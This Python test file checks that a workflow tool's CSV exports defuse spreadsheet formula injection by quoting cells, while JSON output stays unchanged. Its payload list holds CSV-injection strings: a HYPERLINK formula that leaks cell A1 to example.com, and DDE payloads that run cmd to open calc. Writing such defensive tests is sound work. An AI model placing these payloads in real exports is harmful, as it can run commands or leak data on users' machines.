"""CSV opened in a spreadsheet never runs what users typed as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from cpts_workflow.spreadsheet import FORMULA_STARTS, csv_text, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://example.com/?x="&A1;"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_made_inert(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-12, -3.5, 0, 42, "-12", "-3,5", "+33", "12", "Aix", "",
                                   None, "a=b", " =1"])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == value


def test_negative_numbers_stay_numbers_in_the_file():
    text = csv_text(["a", "b", "c", "d"], [[-3, -2.5, "-4", "=1+1"]])
    assert text.splitlines()[1] == "-3;-2.5;-4;'=1+1"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def _assert_inert(text: str, expected: list[str]) -> None:
    cells = [c for row in _cells(text) for c in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(",", "").isdigit(), cell
    for payload in expected:
        assert "'" + payload in cells, (payload, cells)


def test_every_csv_command_neutralises_user_text(cpts, tmp_path):
    name, officer = PAYLOADS[0], PAYLOADS[3]
    result = cpts("new", name, "--officer", officer, "--json")
    assert result.exit_code == 0, result.output
    slug = json.loads(result.stdout)["slug"]
    assert cpts("check", slug, "working_group", "--note", PAYLOADS[1]).exit_code == 0
    assert cpts("skip", slug, "urps_contact", "--reason", PAYLOADS[2]).exit_code == 0
    assert cpts("member", "add", slug, "=1+1").exit_code == 0
    assert cpts("member", "add", slug, "@Jeanne Durand", "--role", "president").exit_code == 0

    _assert_inert(cpts("list --csv").stdout, [name, officer])
    _assert_inert(cpts("checklist", slug, "--csv").stdout, [])
    history = cpts("history", slug, "--csv").stdout
    _assert_inert(history, [PAYLOADS[1], PAYLOADS[2]])
    _assert_inert(cpts("member", "list", slug, "--csv").stdout, ["@Jeanne Durand"])
    out = tmp_path / "portefeuille.csv"
    assert cpts("report", "--csv", "--out", str(out)).exit_code == 0
    _assert_inert(out.read_text(encoding="utf-8-sig"), [name, officer])

    # JSON stays raw: what was typed, unchanged.
    assert json.loads(cpts("list --json").stdout)[0]["name"] == name
